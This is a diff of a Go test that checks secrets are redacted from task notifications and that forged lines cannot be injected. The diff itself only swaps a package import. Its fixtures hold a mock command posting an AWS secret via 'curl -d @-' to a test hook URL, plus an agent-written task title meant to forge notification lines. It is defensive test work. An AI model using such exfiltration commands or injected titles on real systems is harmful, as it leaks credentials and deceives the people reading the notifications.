@@ -10,9 +10,9 @@ import (
 	"testing"
 	"unicode"
 
-	"github.com/lazyorch/lazy/gitstore"
 	"github.com/lazyorch/lazy/internal/redact/redacttest"
 	"github.com/lazyorch/lazy/machine"
+	"github.com/lazyorch/lazy/task"
 )
 
 // hostileTitle is a task title an agent wrote over MCP to forge lines of
@@ -52,7 +52,7 @@ func TestNotificationsCarryNoSecretAndNoForgedLine(t *testing.T) {
 			reached = append(reached, s.Targets[4])
 			failed := "AWS=" + k.Text + " curl -d @- " + redacttest.HookTarget + " " + srv.URL + "/ntfy-topic-5ecret " + k.Text
 			o := Observation{TaskID: "t1", Slug: "fix-it", Title: hostileTitle + " " + k.Text, Status: machine.Blocked, Sessions: 1, Turns: 2,
-				Gate: &gitstore.GateSummary{State: gitstore.GateFailed, Run: "r1", Failed: failed}}
+				Gate: &task.GateSummary{State: task.GateFailed, Run: "r1", Failed: failed}}
 			ev, _ := Derive(nil, o, Policy{Secrets: s.Secrets})
 			if ev == nil || ev.Kind != KindGateFailed {
 				t.Fatalf("derived %+v", ev)
